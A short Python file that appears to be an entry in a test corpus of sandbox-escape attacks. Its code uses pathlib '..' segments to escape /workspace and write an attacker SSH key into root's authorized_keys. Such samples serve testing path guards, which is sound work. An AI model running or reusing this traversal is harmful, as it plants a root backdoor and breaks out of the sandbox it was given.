# attack-class: 12
# title: Path('/workspace') / '..' / '..' / 'root'
# why: traversal assembled with the pathlib / operator

from pathlib import Path

target = Path("/workspace") / ".." / ".." / "root" / ".ssh" / "authorized_keys"
target.write_text("ssh-ed25519 AAAAC3Nza attacker\n")
